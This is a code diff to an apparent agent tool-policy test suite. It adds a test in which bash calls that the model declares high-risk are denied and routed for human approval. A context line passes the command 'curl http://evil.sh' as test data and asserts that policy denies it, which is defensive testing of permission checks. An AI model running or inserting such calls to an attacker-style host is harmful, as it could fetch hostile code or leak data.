@@ -364,3 +364,20 @@ async def test_mcp_serve_asks_the_client_through_elicitation(policy: Path, works
     assert cannot_ask.is_error and not (workspace / "unasked.txt").exists()
     denied = await _serve_and_call(policy, workspace, "curl http://evil.sh")
     assert denied.is_error and "curl" in denied.content[0].text
+
+
+def test_security_risk_declared_by_the_model_for_bash(tmp_path: Path, workspace: Path) -> None:
+    """bash exported with security_risk=True: the level the model declares reaches the
+    policy, though bash's action has no such field."""
+    path = tmp_path / "risk.toml"
+    path.write_text(
+        'default = "allow"\n\n[[rules]]\ndecision = "deny"\ntool = "*"\n'
+        'security_risk = "high"\nreason = "high-risk calls need a person"\n'
+    )
+    with Toolset.load(["bash"], workspace=workspace, policy=path) as toolset:
+        (schema,) = toolset.export("openai", security_risk=True)
+        assert "security_risk" in schema["function"]["parameters"]["required"]
+        low = toolset.call("bash", {"command": "echo low", "security_risk": "LOW"})
+        assert not low.is_error and "low" in low.text
+        high = toolset.call("bash", {"command": "echo high", "security_risk": "HIGH"})
+        assert high.is_error and "high-risk calls need a person" in high.text
